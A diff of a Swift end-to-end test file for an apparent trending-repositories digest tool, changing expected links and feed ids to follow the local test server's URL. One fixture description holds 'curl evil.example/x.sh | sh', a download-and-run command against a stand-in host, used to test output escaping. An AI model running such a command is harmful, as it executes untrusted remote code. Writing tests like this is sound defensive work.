@@ -42,7 +42,7 @@ struct DigestEndToEndTests {
         #expect(json.status == 0 && json.stdout == "[]\n" && json.stderr == "")
         #expect(atom.status == 0 && atom.stderr == "")
         let feed = try parseFeed(atom.stdout)
-        #expect(feed.entries.isEmpty && feed.id == "tag:github.com,2026:trending?since=daily&new-only")
+        #expect(feed.entries.isEmpty && feed.id == "tag:127.0.0.1,2026:trending?since=daily&new-only", "a loopback API base is its own site")
     }
 
     @Test("--format markdown: one escaped item per repo, linked only to its page on the site")
@@ -55,8 +55,8 @@ struct DigestEndToEndTests {
         #expect(result.status == 0 && result.stderr == "")
         let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
         #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
-        #expect(lines.first == "- [mallory/evilrepo](https://github.com/mallory/evilrepo) · ★ 6.7k · Rust — Harmless formatter screen wiped")
-        #expect(lines.contains("- [crlf-carl/safe-installer](https://github.com/crlf-carl/safe-installer) · ★ 404 · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
+        #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evilrepo) · ★ 6.7k · Rust — Harmless formatter screen wiped")
+        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
         #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
         #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
     }
@@ -71,14 +71,14 @@ struct DigestEndToEndTests {
 
         #expect(result.status == 0 && result.stderr == "")
         let feed = try parseFeed(result.stdout)
-        #expect(feed.id == "tag:github.com,2026:trending?since=daily&language=swift&topic=cli")
-        #expect(feed.title == "Daily trending Swift repositories (topic cli) · github.com")
+        #expect(feed.id == "tag:127.0.0.1,2026:trending?since=daily&language=swift&topic=cli")
+        #expect(feed.title == "Daily trending Swift repositories (topic cli) · " + server.baseURL.dropFirst("http://".count))
         #expect(feed.updated == "2026-11-23T12:00:00Z")
-        #expect(feed.link.hasPrefix("https://github.com/search?q=created%3A%3E2026-11-22+language%3ASwift+topic%3Acli"))
+        #expect(feed.link.hasPrefix(server.baseURL + "/search?q=created%3A%3E2026-11-22+language%3ASwift+topic%3Acli"))
         #expect(feed.hasAuthor)
         #expect(feed.entries.count == 3)
         let first = try #require(feed.entries.first)
-        #expect(first.id == "https://github.com/octo-org/rocket" && first.title == "octo-org/rocket" && first.link == first.id)
+        #expect(first.id == server.baseURL + "/octo-org/rocket" && first.title == "octo-org/rocket" && first.link == first.id)
         #expect(first.updated.hasSuffix("Z") && first.summary.hasPrefix("★ 9.8k · Swift — Launch-ready template"))
         #expect(try parseFeed(again.stdout).entries.map(\.id) == feed.entries.map(\.id), "the same repos, the same ids")
     }
@@ -98,7 +98,7 @@ struct DigestEndToEndTests {
         let markdown = try await sandbox.run(["--api-url", server.baseURL, "--offline", "--format", "markdown"], extra: later)
         let atom = try await sandbox.run(["--api-url", server.baseURL, "--offline", "--format", "atom"], extra: later)
 
-        #expect(markdown.stdout == "- [o/bravo](https://github.com/o/bravo) · ★ 1.1k · +300 ★ since 6h ago · Go — B\n")
+        #expect(markdown.stdout == "- [o/bravo](\(server.baseURL)/o/bravo) · ★ 1.1k · +300 ★ since 6h ago · Go — B\n")
         #expect(try parseFeed(atom.stdout).entries.first?.summary == "★ 1.1k · +300 ★ since 6h ago · Go — B")
     }
 
